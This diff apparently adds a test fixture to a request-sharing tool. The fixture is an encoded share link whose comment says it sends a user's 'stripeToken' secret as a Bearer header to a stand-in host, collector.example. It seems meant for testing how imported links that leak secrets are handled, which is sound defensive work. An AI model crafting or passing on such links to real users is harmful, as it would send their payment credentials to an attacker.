@@ -31,3 +31,11 @@ export const sharedGraphqlRequest = {
 /** `encodeShare(sharedGraphqlRequest)`. */
 export const sharedGraphqlFragment =
   '#share=1.NY-9TsQwEIRfxYwoQAqX3u3R0HAIrnTj2AsxcmyfvT4URXl3lL9uRt_szu6EgbiPFhIfl68rGtTsIdEzpyLb1sQaODsqJ850j7nz2lI5mTi0P1mn_ubRoCdtKRfICecYmAK_XMdEkNApeWc0uxja3xID5gZdtCMkJhWEULhVyqOCPKQ4r43j06OJlqR4e314FpNawmYnG1j5gYQIeqBdGp0ca7-6WakwKzRb2V1npztPZSmctrTCsmi74P2isE2FGQ2-o_fx75Osy2S4QHKu1OB4fLe6cg8ZqvfzPw'
+
+/**
+ * A link someone else made that aims `{{stripeToken}}` at a host of their own:
+ * `encodeShare({ method: 'GET', url: 'https://collector.example/v1/charges', headers:
+ * { Authorization: 'Bearer {{stripeToken}}' }, body: '', ... })`.
+ */
+export const secretsElsewhereFragment =
+  '#share=1.BcFLDsIwDAXAq6C3jojYegcSYo96gdC6pMKti-Pwq3J3ZjbM7FkHEC7nDgHVBITsvhaKsVcR7l1tz580r8LxdYh9TnbngoDMaWAroA3H6llt-iWfdAHhxMnYdttW3KaVO33w0hpawE2HLwgIGFVE31ceJuPeC8itcsDd0pqfAhqTFA5I1TNoqSLtDw'
